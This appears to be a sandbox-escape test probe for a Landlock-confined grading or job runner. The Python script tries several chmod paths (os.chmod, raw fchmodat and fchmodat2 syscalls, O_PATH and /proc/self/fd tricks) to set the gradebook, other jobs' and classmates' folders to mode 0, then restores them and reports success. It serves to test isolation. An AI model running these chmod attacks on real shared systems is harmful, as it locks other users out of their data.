# /// attack
# says = "ran to its end"
# ///
"""Close folders that others need by chmod, which Landlock does not rule: the server's, other jobs', the course's."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
own = os.path.realpath(os.environ["TMPDIR"])
above = os.path.dirname(own)
places = [PATHS["gradebook"], PATHS["marker"], PATHS["root"], PATHS["classmate"], PATHS["packages"]]
places += [os.path.join(above, str(number)) for number in range(1, 200)] + ["/tmp/jobs", "/tmp", above]
for place in dict.fromkeys(places):
    if os.path.realpath(place) == own:
        continue
    try:
        before = os.stat(place).st_mode
    except OSError:
        continue
    for act in (
        lambda: os.chmod(place, 0),
        lambda: libc.syscall(268, -100, place.encode(), 0),
        lambda: libc.syscall(452, -100, place.encode(), 0, 0),
        lambda: os.fchmod(os.open(place, os.O_PATH), 0),
        lambda: os.chmod(f"/proc/self/fd/{os.open(place, os.O_PATH)}", 0),
    ):
        try:
            act()
        except OSError:
            pass
        try:
            after = os.stat(place).st_mode
        except OSError as error:
            after = error
        if after != before:
            print("WON: changed the mode of", place)
            os.chmod(place, before & 0o7777)
raise RuntimeError("the attack ran to its end")
